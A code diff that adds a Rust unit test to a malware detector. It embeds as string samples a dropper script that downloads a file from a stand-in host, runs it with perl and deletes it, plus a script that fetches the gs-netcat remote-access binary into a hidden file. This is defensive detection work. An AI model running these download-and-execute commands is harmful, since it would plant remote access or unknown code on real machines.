@@ -212,3 +212,16 @@ fn a_program_holding_a_defacement_page_claims_the_break_in() {
                 open(my $fh, '>', $ARGV[0]); print $fh $page;\n";
     assert!(crate::detect::judge("x.pl", "x.pl", perl.as_bytes(), &[]).iter().any(|h| h.why == Why::Defacement));
 }
+
+#[test]
+fn a_dropper_deleting_what_it_ran_and_a_remote_access_tool_are_found() {
+    // fresh68's `cron.sh`.
+    let dropper = "#!/bin/bash\nwget http://payload.example/doc2\ncurl -O http://payload.example/doc2\n\
+                   chmod +x doc2\nperl doc2\nrm -rf doc2 doc2*\n";
+    assert_eq!(whys(dropper), [Why::DownloadsProgram]);
+    let gsocket = "#!/bin/bash\nURL=\"https://gsocket.io/bin/gs-netcat_mini-linux-x86_64\"\ncurl -SsfL \"https://gsocket.io/bin/gs-netcat_mini-linux-x86_64\" -o .php-bin\n";
+    assert_eq!(whys(gsocket), [Why::DownloadsProgram]);
+    // A build script downloading a tool it keeps.
+    let build = "#!/bin/sh\nwget https://getcomposer.org/download/latest-stable/composer.phar\nchmod +x composer.phar\n./composer.phar install\n";
+    assert!(whys(build).is_empty());
+}
